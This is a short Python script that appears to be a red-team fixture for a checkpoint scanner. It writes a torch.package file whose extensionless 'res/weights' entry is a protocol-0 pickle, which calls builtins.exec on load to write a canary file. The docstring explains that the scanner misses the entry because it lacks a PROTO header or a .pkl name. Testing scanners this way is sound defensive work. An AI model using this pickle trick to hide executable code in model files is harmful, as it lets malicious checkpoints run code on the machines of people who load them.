"""torch.package resource holding a protocol-0 pickle under a name without .pkl:
PackageImporter.load_pickle("res", "weights") unpickles it (builtins.exec writes a canary);
ckpt looks for package pickles by a PROTO header (or a .pkl name) and never opens it."""
import io
import sys
import zipfile

import torch
from torch.package import PackageExporter

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/package_proto0"
buf = io.BytesIO()
with PackageExporter(buf) as exp:
    exp.save_pickle("res", "model.pkl", {"weight": torch.zeros(2)})
src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
prefix = src.namelist()[0].split("/")[0] + "/"
proto0 = b"cbuiltins\nexec\n(V" + f"open({canary!r},'w').write('ran')".encode() + b"\ntR."
with zipfile.ZipFile("model_proto0.pt", "w", zipfile.ZIP_STORED) as z:
    for name in src.namelist():
        z.writestr(name, src.read(name))
    z.writestr(prefix + "res/weights", proto0)
print("wrote model_proto0.pt")
